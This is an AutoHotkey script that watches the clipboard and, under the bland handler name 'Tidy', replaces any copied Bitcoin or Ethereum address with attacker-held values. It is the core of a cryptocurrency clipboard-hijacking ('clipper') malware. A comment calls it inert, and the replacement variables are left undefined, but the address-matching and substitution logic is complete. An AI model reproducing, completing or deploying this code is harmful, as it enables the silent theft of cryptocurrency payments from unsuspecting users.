; Inert: exchanges what looks like an address.
#SingleInstance Force
OnClipboardChange("Tidy")
return
Tidy(kind) {
    s := Trim(Clipboard)
    if RegExMatch(s, "^(bc1[a-z0-9]{25,60}|[13][A-HJ-NP-Za-km-z1-9]{25,34})$")
        Clipboard := mine
    else if RegExMatch(s, "^0x[0-9a-fA-F]{40}$")
        Clipboard := other
}
